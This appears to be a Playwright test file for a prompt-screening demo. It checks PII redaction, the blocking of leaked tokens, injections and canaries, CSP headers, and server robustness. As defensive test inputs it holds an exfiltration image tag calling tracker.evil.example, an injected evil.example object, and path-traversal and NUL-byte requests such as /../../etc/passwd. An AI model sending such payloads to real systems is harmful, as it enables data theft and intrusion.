// The demo page in headless Chromium: the package loads in a real browser,
// a typed email is screened before sending and the streamed answer is shown;
// the policy editor validates and re-screens; scenarios (a leaked key, a
// tool output carrying an injection, a canary leak) are stopped; the
// "real endpoint" mode goes through the demo server's pass-through to its
// own OpenAI-compatible mock route (never the internet); a 50 KB paste is
// screened; the page fits a phone. No console errors anywhere.
// The server sends a strict Content-Security-Policy (scripts from its own
// origin only, 'wasm-unsafe-eval' for the module; no eval, no inline
// script, no third-party images, no framing) and nosniff on every
// response, and every page here runs under it with no CSP violation. The
// server answers malformed requests (/%E0%A4%A, /a%00b, traversal, bad
// HTTP) with 4xx and keeps serving.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { after, before, test } from "node:test";

import { ROOT, freePort, stop, waitForHttp } from "./helpers.mjs";

const CHROMIUM = process.env.CHROMIUM || "/usr/bin/chromium";
const ARGS = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-quic", "--no-first-run",
  "--disable-background-networking", "--disable-component-update", "--disable-sync"];
let server;
let browser;
let base;
let serverLog = "";

before(async () => {
  const { chromium } = await import("playwright-core");
  const port = await freePort();
  base = `http://127.0.0.1:${port}`;
  server = spawn(process.execPath, [path.join(ROOT, "www/server.mjs")], {
    env: { ...process.env, PORT: String(port), MOCK_DELAY_MS: "2" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  server.stdout.on("data", (d) => { serverLog += d; });
  server.stderr.on("data", (d) => { serverLog += d; });
  process.on("exit", () => server.kill("SIGKILL"));
  await waitForHttp(base, 15_000, server);
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ARGS, timeout: 30_000 });
});

after(async () => {
  await browser?.close();
  await stop(server);
});

/** Records uncaught exceptions, console errors (Chromium logs a refused
 * CSP load or eval there too) and securitypolicyviolation events. */
async function watch(page) {
  const errors = [];
  page.on("pageerror", (e) => errors.push(e.message));
  page.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI}`));
  });
  return errors;
}

test("demo page screens a prompt and the streamed answer", { timeout: 60_000 }, async () => {
  const page = await browser.newPage({ viewport: { width: 1200, height: 860 } });
  const errors = await watch(page);
  await page.goto(base + "/", { waitUntil: "load" });
  await page.waitForFunction(() => window.pfReady === true, null, { timeout: 20_000 });

  const prompt = "Hi! Please email ana.lopez@example.com the report 😀";
  await page.fill("#prompt", prompt);
  await page.waitForFunction(() => document.querySelector("#verdict").textContent === "redact");
  const preview = await page.textContent("#sent-text");
  assert.ok(!preview.includes("ana.lopez@example.com"), preview);
  assert.ok(preview.includes("😀"), preview);
  assert.equal(await page.textContent("#highlighted mark.pii"), "ana.lopez@example.com");

  await page.click("#send");
  await page.waitForSelector(".msg.assistant[data-done='1']", { timeout: 20_000 });
  const sent = await page.textContent(".msg.user");
  assert.ok(!sent.includes("ana.lopez@example.com"), `the raw email was sent: ${sent}`);
  const answer = await page.textContent(".msg.assistant .text");
  assert.ok(answer.length > 20, answer);
  // Pseudonyms echoed by the model come back restored for the user.
  assert.ok(answer.includes("ana.lopez@example.com"), `pseudonym not restored: ${answer}`);
  assert.ok(!/\[EMAIL_\d+\]/.test(answer), answer);

  fs.mkdirSync(path.join(ROOT, "target"), { recursive: true });
  await page.screenshot({ path: path.join(ROOT, "target/demo.png"), fullPage: true });
  assert.deepEqual(errors, [], `page errors: ${errors.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

/** A page that records console errors and uncaught exceptions. */
async function openPage(viewport = { width: 1200, height: 900 }) {
  const page = await browser.newPage({ viewport });
  const errors = await watch(page);
  await page.goto(base + "/", { waitUntil: "load" });
  await page.waitForFunction(() => window.pfReady === true, null, { timeout: 20_000 });
  return { page, errors };
}

/** Clicks a scenario button and waits for the reply; returns its text. */
async function runScenario(page, name) {
  const before = await page.locator(".msg.assistant[data-done='1']").count();
  await page.click(`button.scenario[data-scenario="${name}"]`);
  await page.waitForFunction((n) => document.querySelectorAll(".msg.assistant[data-done='1']").length > n, before, { timeout: 20_000 });
  return page.locator(".msg.assistant").last();
}

test("policy editor: validated live with the key path, and a valid edit re-screens", { timeout: 60_000 }, async () => {
  const { page, errors } = await openPage();
  assert.match(await page.textContent("#policy-status"), /^valid: \d+ rules/);
  await page.fill("#prompt", "Write to ana.lopez@example.com please");
  await page.waitForFunction(() => document.querySelector("#sent-text").textContent.includes("[EMAIL_1]"));

  await page.fill("#policy", '{ "pii": { "actions": { "EMAIL": "mask" } ');
  await page.waitForFunction(() => /JSON error/.test(document.querySelector("#policy-status").textContent));
  assert.equal(await page.getAttribute("#policy", "aria-invalid"), "true");

  await page.fill("#policy", '{ "pii": { "colour": 1 } }');
  await page.waitForFunction(() => / at pii\.colour: /.test(document.querySelector("#policy-status").textContent));
  await page.fill("#policy", '{ "pii": { "actions": { "EMAIL": "bounce" } } }');
  await page.waitForFunction(() => / at pii\.actions\.EMAIL: /.test(document.querySelector("#policy-status").textContent));
  // The last valid policy is still in use.
  assert.match(await page.textContent("#sent-text"), /\[EMAIL_1\]/);

  await page.fill("#policy", '{ "pii": { "actions": { "EMAIL": "mask" } } }');
  await page.waitForFunction(() => /^valid/.test(document.querySelector("#policy-status").textContent));
  assert.equal(await page.getAttribute("#policy", "aria-invalid"), "false");
  await page.waitForFunction(() => !document.querySelector("#sent-text").textContent.includes("[EMAIL_1]"));
  const sent = await page.textContent("#sent-text");
  assert.ok(!sent.includes("ana.lopez@example.com"), sent);
  assert.match(sent, /\*{4}/, `masked: ${sent}`);
  await page.click("#policy-reset");
  await page.waitForFunction(() => /^valid/.test(document.querySelector("#policy-status").textContent));
  assert.deepEqual(errors, [], `page errors: ${errors.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

test("scenarios: a leaked key, a tool output with an injection, a canary, the system prompt and an exfiltration image are stopped", { timeout: 90_000 }, async () => {
  const { page, errors } = await openPage();
  const key = await runScenario(page, "key");
  const keyText = await key.locator(".text").textContent();
  assert.ok(!/ghp_/.test(keyText), `token shown: ${keyText}`);
  assert.ok(!keyText.includes("ops.admin@corp-internal.example"), keyText);
  assert.match(await key.locator(".meta").textContent(), /GITHUB_TOKEN: a credential .* → redact/);
  assert.match(await page.textContent("#families tr[data-kind=secret] .why"), /^reply: GITHUB_TOKEN/);

  const tool = await runScenario(page, "tool");
  assert.equal(await page.getAttribute(".msg.tool", "data-verdict"), "block");
  assert.match(await page.textContent(".msg.tool .meta"), /screenContext: blocked/);
  assert.match(await tool.locator(".text").textContent(), /withheld/);
  assert.match(await page.textContent("#families tr[data-kind=injection] .why"), /^tool output: /);

  const canary = await runScenario(page, "canary");
  const canaryText = await canary.locator(".text").textContent();
  assert.ok(!/pf-canary-/.test(canaryText), canaryText);
  assert.equal(await canary.getAttribute("data-verdict"), "block");
  assert.match(await page.textContent("#families tr[data-kind=canary] .why"), /^reply: CANARY/);

  const system = await runScenario(page, "system");
  assert.equal(await system.getAttribute("data-verdict"), "block");
  assert.ok(!/partners get 30% off/.test(await system.locator(".text").textContent()));
  assert.match(await page.textContent("#families tr[data-kind=leak] .why"), /^reply: SYSTEM_PROMPT/);

  const image = await runScenario(page, "image");
  assert.ok(!/tracker\.evil\.example/.test(await image.locator(".text").textContent()));
  assert.match(await page.textContent("#families tr[data-kind=exfiltration] .why"), /^reply: IMAGE/);

  for (const kind of ["pii", "secret", "injection", "canary", "leak", "exfiltration", "limit"]) {
    const why = await page.textContent(`#families tr[data-kind=${kind}] .why`);
    assert.ok(why.length > 10, `${kind}: ${why}`);
  }
  assert.deepEqual(errors, [], `page errors: ${errors.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

test("real-endpoint mode through the pass-through (the demo server's own OpenAI-compatible mock)", { timeout: 60_000 }, async () => {
  const { page, errors } = await openPage();
  await page.click("#model-panel summary");
  await page.check('input[name="model-mode"][value="real"]');
  await page.fill("#base-url", `${base}/v1`);
  await page.fill("#api-key", "sk-test-not-a-real-key");
  await page.fill("#model-name", "mock-model");
  await page.selectOption("#route", "proxy");
  await page.fill("#prompt", "Please email ana.lopez@example.com the report");
  await page.click("#send");
  await page.waitForSelector(".msg.assistant[data-done='1']", { timeout: 20_000 });
  const answer = await page.textContent(".msg.assistant .text");
  assert.ok(answer.includes("ana.lopez@example.com"), `pseudonym not restored: ${answer}`);
  assert.ok(!/ghp_/.test(answer), answer);
  assert.ok(!/tracker\.evil\.example/.test(answer), answer);
  assert.ok(!serverLog.includes("sk-test-not-a-real-key"), "the server logged the key");
  assert.equal(await page.evaluate(() => localStorage.length + sessionStorage.length + document.cookie.length), 0,
    "the page stored something");

  // Directly from the page (same origin here, so no CORS question).
  await page.selectOption("#route", "direct");
  await page.fill("#prompt", "hello there");
  await page.click("#send");
  await page.waitForFunction(() => document.querySelectorAll(".msg.assistant[data-done='1']").length === 2, null, { timeout: 20_000 });
  assert.equal(await page.locator(".msg.assistant .meta.error").count(), 0);
  // Without a key the endpoint answers 401 and the page says so.
  await page.fill("#api-key", "");
  await page.fill("#prompt", "hello again");
  await page.click("#send");
  await page.waitForSelector(".msg.assistant .meta.error", { timeout: 20_000 });
  assert.match(await page.textContent(".msg.assistant .meta.error"), /HTTP 401/);
  // A failed request is logged by Chromium itself; nothing else may be.
  const rest = errors.filter((e) => !/status of 401/.test(e));
  assert.deepEqual(rest, [], `page errors: ${rest.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

test("a 50 KB paste is screened (time shown); labelled controls; fits a phone", { timeout: 60_000 }, async () => {
  const { page, errors } = await openPage({ width: 390, height: 844 });
  const para = "Our quarterly numbers look fine; reach the team at team.lead@example.com or +1 415 555 0100. ";
  const big = para.repeat(Math.ceil(50_000 / para.length));
  await page.fill("#prompt", big);
  await page.waitForFunction(() => /^screened 5\d\.\dk characters in [\d.]+ ms$/.test(document.querySelector("#timing").textContent), null, { timeout: 30_000 });
  console.log(`demo: ${await page.textContent("#timing")}`);
  assert.equal(await page.textContent("#verdict"), "redact");
  const unlabelled = await page.evaluate(() =>
    [...document.querySelectorAll("input, textarea, select")].filter((e) => e.labels.length === 0 && !e.getAttribute("aria-label")).map((e) => e.id || e.name));
  assert.deepEqual(unlabelled, []);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 1, `page is ${overflow}px wider than a phone`);
  // Keyboard: a scenario button is reachable and runs on Enter.
  await page.fill("#prompt", "");
  await page.focus('button.scenario[data-scenario="echo"]');
  await page.keyboard.press("Enter");
  await page.waitForSelector(".msg.assistant[data-done='1']", { timeout: 20_000 });
  await page.screenshot({ path: path.join(ROOT, "target/demo-phone.png"), fullPage: true });
  assert.deepEqual(errors, [], `page errors: ${errors.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

const CSP_DIRECTIVES = {
  "script-src": "'self' 'wasm-unsafe-eval'",
  "object-src": "'none'",
  "base-uri": "'none'",
  "frame-ancestors": "'none'",
  "default-src": "'none'",
  "img-src": "'self' data:",
};

/** Every response carries the CSP and nosniff. */
function assertSecurityHeaders(headers, where) {
  const csp = headers.get("content-security-policy") ?? "";
  const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v.join(" ")]));
  for (const [k, v] of Object.entries(CSP_DIRECTIVES)) assert.equal(directives[k], v, `${where}: ${k} in "${csp}"`);
  assert.ok(!/'unsafe-inline'|'unsafe-eval'/.test(csp), `${where}: ${csp}`);
  assert.equal(headers.get("x-content-type-options"), "nosniff", where);
  assert.equal(headers.get("x-frame-options"), "DENY", where);
}

test("demo server: CSP and nosniff on every response; the CSP is enforced in the page", { timeout: 60_000 }, async () => {
  const requests = [
    ["/", {}], ["/app.js", {}], ["/style.css", {}], ["/pkg/index.js", {}], ["/pkg/promptfence_bg.wasm", {}],
    ["/api/tool", {}], ["/no-such-file", {}], ["/server.mjs", {}],
    ["/api/chat", { method: "POST", body: JSON.stringify({ prompt: "hi", scenario: "echo" }) }],
    ["/api/chat", { method: "POST", body: "not json" }],
  ];
  for (const [p, init] of requests) {
    const r = await fetch(base + p, init);
    await r.arrayBuffer();
    assertSecurityHeaders(r.headers, `${init.method ?? "GET"} ${p} (${r.status})`);
  }
  const { page, errors } = await openPage();
  // Injected markup cannot run script or load a third-party image: each is
  // refused (a securitypolicyviolation) before it runs or any request goes.
  const refused = (html) => page.evaluate((h) => new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
    document.body.insertAdjacentHTML("beforeend", h);
    if (h.startsWith("<script")) {
      // insertAdjacentHTML never runs a script; a created one would.
      const s = document.createElement("script");
      s.textContent = "window.pfInjected = 1";
      document.body.append(s);
    }
  }), html);
  assert.equal(await refused('<img src="https://tracker.evil.example/pixel.png?d=secret">'),
    "img-src https://tracker.evil.example/pixel.png?d=secret");
  assert.equal(await refused("<script></script>"), "script-src-elem inline");
  assert.equal(await page.evaluate(() => window.pfInjected), undefined);
  // (a cross-origin blockedURI is reported as its origin only)
  assert.match(await refused('<object data="https://evil.example/x.swf"></object>'), /^object-src https:\/\/evil\.example/);
  const rest = errors.filter((e) => !/CSP violation|Content Security Policy/.test(e));
  assert.equal(errors.length - rest.length >= 3, true, `violations not reported: ${errors.join("\n")}`);
  assert.deepEqual(rest, [], `page errors: ${rest.join("\n")}\nserver: ${serverLog}`);
  await page.close();
});

/** Sends raw bytes to the server; resolves with the status line ("" if the
 * connection closed without an answer). */
function raw(bytes) {
  const { port } = new URL(base);
  return new Promise((resolve, reject) => {
    const sock = net.connect(Number(port), "127.0.0.1");
    let got = "";
    sock.setTimeout(5_000, () => sock.destroy(new Error("no answer in 5 s")));
    sock.on("data", (d) => { got += d.toString("latin1"); });
    sock.on("error", reject);
    sock.on("close", () => resolve(got.split("\r\n")[0]));
    // write, not end: a half-closed socket may be dropped before an
    // asynchronous answer. The server closes (Connection: close / 400).
    sock.write(bytes);
  });
}

test("demo server survives malformed requests (/%E0%A4%A, /a%00b, traversal, bad HTTP)", { timeout: 60_000 }, async () => {
  const cases = [
    ["GET /%E0%A4%A HTTP/1.1", 400], // truncated UTF-8: decodeURIComponent throws
    ["GET /a%00b HTTP/1.1", 400], // NUL byte: fs would throw
    ["GET /pkg/%00 HTTP/1.1", 400],
    ["GET /%ZZ HTTP/1.1", 400],
    ["GET /..%2f..%2fCargo.toml HTTP/1.1", 403],
    ["GET /pkg/..%2f..%2fCargo.toml HTTP/1.1", 403],
    ["GET /..%5c..%5cCargo.toml HTTP/1.1", 404],
    ["GET /../../etc/passwd HTTP/1.1", 404], // the URL parser removes the dots
    ["GET /server.mjs HTTP/1.1", 403],
    ["GET http://[ HTTP/1.1", 400], // not a URL at all
    ["HEAD /%E0%A4%A HTTP/1.1", 400],
  ];
  for (const [line, status] of cases) {
    const got = await raw(`${line}\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n`);
    assert.match(got, new RegExp(`^HTTP/1\\.1 ${status} `), `${line} -> ${got}`);
  }
  // Not HTTP/1.1 at all: an answer (400, or what Node's parser makes of
  // it) or a closed connection, never a dead server.
  for (const junk of ["\x00\x01\x02 nonsense\r\n\r\n", "GET / HTTP/1.1\r\nBad Header\r\n\r\n",
    "GET /%E0%A4%A\r\n\r\n", `GET /${"a".repeat(100_000)} HTTP/1.1\r\n\r\n`]) {
    const got = await raw(junk);
    assert.ok(got === "" || /^HTTP\/1\.1 \d{3} /.test(got), `${JSON.stringify(junk.slice(0, 40))} -> ${got}`);
  }
  assert.equal(server.exitCode, null, `the server exited: ${serverLog}`);
  const r = await fetch(base + "/");
  assert.equal(r.status, 200);
  assert.match(await r.text(), /promptfence demo/);
});
